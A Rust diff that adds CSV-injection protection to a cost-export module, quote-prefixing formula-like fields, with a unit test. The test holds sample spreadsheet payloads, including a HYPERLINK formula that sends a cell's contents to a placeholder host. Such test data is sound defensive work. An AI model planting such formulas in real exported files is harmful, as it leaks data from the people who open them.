@@ -35,6 +35,8 @@ pub enum ExportError {
     Write(#[from] std::io::Error),
     #[error("invalid export request: {0}")]
     Invalid(String),
+    #[error("a stored row's labels cannot be read: {0}")]
+    Labels(String),
     #[error("cannot render JSON: {0}")]
     Json(#[from] serde_json::Error),
 }
@@ -84,29 +86,71 @@ impl<'a, W: AsyncWrite + Unpin> Output<'a, W> {
 
 /// Appends `fields` as one CSV line (RFC 4180: fields with a comma, quote
 /// or line break are quoted, quotes doubled; CRLF is not required by FOCUS
-/// tools, so lines end in `\n`).
+/// tools, so lines end in `\n`). Every field is [`neutralised`] first.
 pub(crate) fn csv_line<S: AsRef<str>>(fields: &[S]) -> String {
     let mut line = String::new();
     for (index, field) in fields.iter().enumerate() {
         if index > 0 {
             line.push(',');
         }
-        let field = field.as_ref();
+        let field = neutralised(field.as_ref());
         if field.contains([',', '"', '\n', '\r']) {
             line.push('"');
             line.push_str(&field.replace('"', "\"\""));
             line.push('"');
         } else {
-            line.push_str(field);
+            line.push_str(&field);
         }
     }
     line.push('\n');
     line
 }
 
+/// A field a spreadsheet would run as a formula (it begins with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return: a tenant's model name or label
+/// value can) gets a leading single quote, OWASP's rule against CSV
+/// injection; numbers, negative ones included, stay numbers.
+pub(crate) fn neutralised(field: &str) -> std::borrow::Cow<'_, str> {
+    let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula && !is_number(field) {
+        std::borrow::Cow::Owned(format!("'{field}"))
+    } else {
+        std::borrow::Cow::Borrowed(field)
+    }
+}
+
+/// A plain decimal number (`-0.25`, `+3`, `1e-5`), not `-inf` or `NaN`.
+fn is_number(field: &str) -> bool {
+    field
+        .bytes()
+        .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
+        && field.parse::<f64>().is_ok()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn no_cell_starts_a_formula_and_numbers_stay_numbers() {
+        assert_eq!(
+            csv_line(&[
+                "=HYPERLINK(\"http://x.invalid/?\"&A2,\"x\")",
+                "=1+1",
+                "+1+cmd",
+                "-2+3",
+                "@SUM(A1)",
+                "\tx",
+                "\rx",
+            ]),
+            "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A2,\"\"x\"\")\",'=1+1,'+1+cmd,'-2+3,\
+             '@SUM(A1),'\tx,\"'\rx\"\n"
+        );
+        assert_eq!(
+            csv_line(&["-0.2500000000", "+3", "1e-5", "-1", "gpt-4o", "a=b", "-inf"]),
+            "-0.2500000000,+3,1e-5,-1,gpt-4o,a=b,'-inf\n"
+        );
+    }
 
     #[test]
     fn csv_quotes_only_what_needs_it_and_months_roll_over() {
